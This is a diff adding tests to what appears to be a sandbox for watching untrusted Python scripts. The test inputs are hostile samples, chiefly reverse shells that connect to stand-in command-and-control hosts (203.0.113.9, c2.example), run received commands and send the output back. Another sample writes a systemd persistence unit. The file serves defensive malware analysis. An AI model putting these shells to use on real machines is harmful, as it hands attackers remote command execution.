@@ -177,7 +177,7 @@ print(sorted(os.listdir("C:\\\\")), os.path.expandvars("%TEMP%"), hasattr(os, "f
   expect(direct.stdout.split("\n").slice(0, 4)).toEqual([
     "nt win32 \\ Windows C:\\Users\\m.keller\\AppData\\Roaming",
     "True .exe C:\\Users\\m.keller\\Downloads\\z WindowsPath('C:/Users/m.keller/AppData/Roaming/x')",
-    "['Program Files', 'ProgramData', 'Users', 'Windows'] C:\\Users\\m.keller\\AppData\\Local\\Temp False",
+    "['Program Files', 'ProgramData', 'Python311', 'Users', 'Windows'] C:\\Users\\m.keller\\AppData\\Local\\Temp False",
     "",
   ]);
   expect(direct.files).toMatchObject([{ path: "C:\\Users\\m.keller\\AppData\\Roaming\\x\\y.exe", change: "made" }]);
@@ -215,4 +215,106 @@ test.each([
 
 test("source that is no text is refused", async () => {
   await expect(inDecoy("\ud800")).rejects.toThrow(/'source'/);
+});
+
+test("whoever listens on a socket is sent a command, and a shell shows what it does with it", async () => {
+  const dossier = await inDecoy(`
+import socket, subprocess
+s = socket.socket(); s.connect(("203.0.113.9", 4444))
+while True:
+    command = s.recv(1024).decode()
+    if not command: break
+    s.send(subprocess.check_output(command, shell=True))
+w = socket.create_connection(("web.example", 80)); w.send(b"GET / HTTP/1.0\\r\\n\\r\\n"); print(w.recv(15))
+`);
+  expect(those(dossier, "process", "subprocess.check_output")).toMatchObject([{ detail: { command: "whoami\n" } }]);
+  expect(those(dossier, "network", "socket.send")[0]).toMatchObject({
+    detail: { host: "203.0.113.9", data: "mkeller\n" },
+  });
+  expect(dossier.stdout).toBe("b'HTTP/1.1 200 OK'\n");
+});
+
+test.each([
+  ["sleeps", "import time\nwhile True:\n    time.sleep(60)"],
+  [
+    "waits for input of a socket",
+    "import socket\ns = socket.create_connection(('c2.example', 9))\nwhile True: s.recv(1)",
+  ],
+  [
+    "waits for a program",
+    "import subprocess\np = subprocess.Popen('sh', stdout=subprocess.PIPE)\nwhile True: p.stdout.readline()",
+  ],
+  ["looks at the clipboard", "import pyperclip\nwhile True: pyperclip.paste()"],
+])("a script that only %s is left alone before its fuel is over", async (_, script) => {
+  const dossier = await inDecoy(script);
+  expect(dossier.end.kind).toBe("waiting");
+  expect(dossier.fuel).toBeLessThan(5_000_000);
+});
+
+test("timers that start each other end", async () => {
+  const dossier = await inDecoy(`
+import threading, os
+def beat():
+    os.system("beat")
+    threading.Timer(3600, beat).start()
+beat()
+os.system("after")
+`);
+  expect(dossier.end.kind).toBe("done");
+  expect(dossier.stderr).toBe("");
+  const commands = those(dossier, "process", "os.system").map(({ detail }) => detail["command"]);
+  expect(commands.filter((each) => each === "beat").length).toBeGreaterThan(5);
+  expect(commands.at(-1)).toBe("after");
+});
+
+test("import hooks of the script's are asked", async () => {
+  const dossier = await inDecoy(`
+import sys, importlib.abc, importlib.machinery
+class Hook(importlib.abc.MetaPathFinder, importlib.abc.Loader):
+    def find_spec(self, name, path=None, target=None):
+        if name == "config": return importlib.machinery.ModuleSpec(name, self)
+    def create_module(self, spec): return None
+    def exec_module(self, module): exec("import os\\nvalue = os.getenv('USER')", module.__dict__)
+sys.meta_path.insert(0, Hook())
+import config
+print(config.value)
+`);
+  expect(dossier.end.message).toBe("");
+  expect(dossier.stdout).toBe("mkeller\n");
+  expect(those(dossier, "module", "sys.meta_path")).toMatchObject([{ detail: { name: "config", finder: "Hook" } }]);
+  expect(dossier.layers).toHaveLength(2);
+});
+
+test("streams and programs that are awaited", async () => {
+  const dossier = await inDecoy(`
+import asyncio
+async def main():
+    reader, writer = await asyncio.open_connection("c2.example", 4444)
+    command = (await reader.readline()).decode().strip()
+    process = await asyncio.create_subprocess_shell(command, stdout=asyncio.subprocess.PIPE)
+    out, _ = await process.communicate()
+    writer.write(out); await writer.drain(); writer.close()
+asyncio.run(main())
+`);
+  expect(dossier.end.message).toBe("");
+  expect(those(dossier, "network", "asyncio.open_connection")).toMatchObject([
+    { detail: { host: "c2.example", port: 4444 } },
+  ]);
+  expect(those(dossier, "process", "asyncio.create_subprocess_shell")).toMatchObject([
+    { detail: { command: "whoami" } },
+  ]);
+  expect(those(dossier, "network", "asyncio.StreamWriter.write")).toMatchObject([{ detail: { data: "mkeller\n" } }]);
+});
+
+test("what is put where there is no folder is seen all the same", async () => {
+  const dossier = await inDecoy(`
+unit = "[Service]\\nExecStart=/tmp/x\\n"
+open("/etc/systemd/system/x.service", "w").write(unit)
+try: open("/etc/nowhere/x").read()
+except FileNotFoundError as error: print(error)
+`);
+  expect(dossier.stdout).toBe("[Errno 2] No such file or directory: '/etc/nowhere/x'\n");
+  expect(dossier.files).toMatchObject([{ path: "/etc/systemd/system/x.service", change: "made", bytes: 27 }]);
+  const written = dossier.observations.filter(({ detail }) => detail["operation"] === "write");
+  expect(written.at(-1)?.detail["data"]).toContain("ExecStart=/tmp/x");
 });
